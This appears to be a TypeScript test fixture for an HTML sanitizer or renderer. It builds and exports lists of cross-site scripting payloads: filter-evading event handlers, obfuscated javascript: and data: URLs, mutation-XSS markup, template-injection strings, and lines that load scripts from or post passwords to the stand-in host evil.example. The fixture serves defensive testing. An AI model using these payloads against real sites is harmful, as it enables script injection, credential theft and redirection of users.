/** Payloads of a hostile platform or link. Executable ones call `__xss()`, open a dialog, or navigate to `evil.example`. */

const call = '__xss()';

const handlers = [
  'onerror',
  'onload',
  'onclick',
  'onmouseover',
  'onfocus',
  'onfocusin',
  'onblur',
  'onanimationstart',
  'ontransitionend',
  'onpointerenter',
  'onpointerrawupdate',
  'ontoggle',
  'onbeforetoggle',
  'onscrollend',
  'oncontentvisibilityautostatechange',
];

/** Elements that load, move or focus by themselves, with a slot for an attribute. */
const carriers = [
  '<img src=x %>',
  '<image href=x %>',
  '<svg %></svg>',
  '<video src=x autoplay %></video>',
  '<audio src=x autoplay %></audio>',
  '<details open %><summary>more</summary></details>',
  '<input autofocus %>',
  '<body %>',
  '<p tabindex=0 autofocus style="animation:x 1s" %>text</p>',
];

/** The same handler in spellings that filters may miss. */
const disguises: readonly ((handler: string) => string)[] = [
  (handler) => `${handler}=${call}`,
  (handler) => `${handler.toUpperCase()}='${call}'`,
  (handler) => `/${handler}=${call}/`,
  (handler) => `\n${handler}\n=\n"${call}"`,
  (handler) => `${handler}="&#95;&#95;xss&lpar;&rpar;"`,
  (handler) => `x=">" ${handler}=${call} y="`,
  (handler) => `${handler}=\`${call}\``,
];

/** Every pair of handler and spelling, each on some element. */
const handled = carriers.flatMap((carrier, row) =>
  handlers.map((handler, column) => carrier.replace('%', disguises[(row + column) % disguises.length]!(handler))),
);

const urls = [
  `javascript:${call}`,
  `JaVaScRiPt:${call}`,
  ` javascript:${call}`,
  `\u0001javascript:${call}`,
  `java\tscript:${call}`,
  `java\nscript:${call}`,
  `javascript\u200B:${call}`,
  `javascript://evil.example/%0A${call}`,
  `javascript:%5F%5Fxss()`,
  `&#106;avascript:${call}`,
  `javascript&colon;${call}`,
  `vbscript:${call}`,
  `data:text/html,<script>${call}</script>`,
  `data:text/html;base64,PHNjcmlwdD5fX3hzcygpPC9zY3JpcHQ+`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${call}"/>`,
  'blob:https://evil.example/1',
  'filesystem:https://evil.example/1',
  'file:///etc/passwd',
  'view-source:https://evil.example/',
  'about:blank',
  'http://evil.example/',
  '//evil.example/',
  '///evil.example/',
  '\\\\evil.example/',
  '/\\evil.example/',
  '/\t/evil.example/',
  'https:evil.example',
  'https:\\evil.example',
  'https://user:secret@evil.example/',
  'https://folia.example@evil.example/',
  'https://evil.example\u0000.folia.example/',
  'https://evil.example\uFF0Ffolia.example/',
  'https://[::1]evil.example/',
  'intent://evil.example#Intent;scheme=https;end',
  'ws://evil.example/',
  'feed:javascript:__xss()',
  'jar:https://evil.example!/',
];

const documents = [
  `<script>${call}</script>`,
  `<script src=//evil.example/x.js></script>`,
  `<script type=module>import("//evil.example/x.js")</script>`,
  `</script><script>${call}</script>`,
  `</title><script>${call}</script>`,
  `</textarea><script>${call}</script>`,
  `--><script>${call}</script><!--`,
  `]]><script>${call}</script>`,
  `"><script>${call}</script>`,
  `'><img src=x onerror=${call}>`,
  `\`><img src=x onerror=${call}>`,
  `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  `<iframe src=//evil.example></iframe>`,
  `<object data=//evil.example/x.swf></object>`,
  `<embed src=//evil.example/x.swf>`,
  `<base href=//evil.example/>`,
  `<meta http-equiv=refresh content="0;url=//evil.example">`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<style>body{display:none}</style>`,
  `<div style="position:fixed;inset:0;z-index:9999">covered</div>`,
  `<form action=//evil.example><input name=password><button>Log in</button></form>`,
  `<button formaction="javascript:${call}" form=x>Go on</button><form id=x></form>`,
  `<dialog open><form method=dialog><input name=password></form></dialog>`,
  `<img name=body><img name=getElementById>`,
  `<a id=boot><a id=boot name=textContent>x</a></a>`,
  `<form id=root><input name=firstElementChild></form>`,
  `<template><img src=x onerror=${call}></template>`,
  `<div><template shadowrootmode=open><img src=x onerror=${call}></template></div>`,
  `<x-portal is=x-portal onclick=${call}>x</x-portal>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${call}&gt;">`,
  `<svg><style><img src="</style><img src=x onerror=${call}//">`,
  `<svg><desc><![CDATA[</desc><script>${call}</script>]]></svg>`,
  `<svg><foreignObject><p><style><!--</style><img title="--><img src=x onerror=${call}>"></p></foreignObject></svg>`,
  `<svg><animate href=#x attributeName=href values=javascript:${call} /><a id=x><text>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x><script>${call}</script></svg>#x"/></svg>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  `<noembed><img title="</noembed><img src=x onerror=${call}>"></noembed>`,
  `<xmp><p title="</xmp><img src=x onerror=${call}>"></xmp>`,
  `<select><template><option><img src=x onerror=${call}></option></template></select>`,
  `<form><div></form><form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${call}>`,
  `<table><td background="javascript:${call}">x</td></table>`,
  `<img srcset="//evil.example/a 1x" sizes=1px src=/images/none.svg onerror=${call}>`,
  `<a href=/ ping=//evil.example/ping onclick=${call}>home</a>`,
  `<a href="https://ok.example/" target=_top rel=opener onclick=${call}>out</a>`,
  `<p popover id=p onbeforetoggle=${call}>x</p><button popovertarget=p>x</button>`,
  `<p${' a=1'.repeat(500)} onclick=${call}>x</p>`,
  `${'<b>'.repeat(300)}<img src=x onerror=${call}>`,
  `<p>\u202E<img src=x onerror=${call}>\u202C</p>`,
  `<scr\u0000ipt>${call}</scr\u0000ipt>`,
  `<<img src=x onerror=${call}>`,
  `<img src=x onerror=${call} `,
];

/** Texts that a template or formatter could interpret. */
const templates = [
  `{{constructor.constructor('${call}')()}}`,
  `\${${call}}`,
  `<%= ${call} %>`,
  '$t(portal:login)',
  '{{name, constructor}}',
  '__proto__',
  'constructor',
  'toString',
  '%00',
  '%3Cscript%3E__xss()%3C/script%3E',
  '&lt;img src=x onerror=__xss()&gt;',
];

/** Addresses that must not be opened. */
export const hostileUrls: readonly string[] = urls;

/** HTML of which only the harmless parts may be rendered. */
export const hostileHtml: readonly string[] = [
  ...documents,
  ...handled,
  ...urls.flatMap((url) => {
    const quoted = url.replaceAll('"', '&quot;');
    return [`<a href="${quoted}">open</a>`, `<img src="${quoted}">`];
  }),
];

/** Texts that must be rendered literally. */
export const hostileTexts: readonly string[] = [...documents, ...templates, ...urls, ...handled];
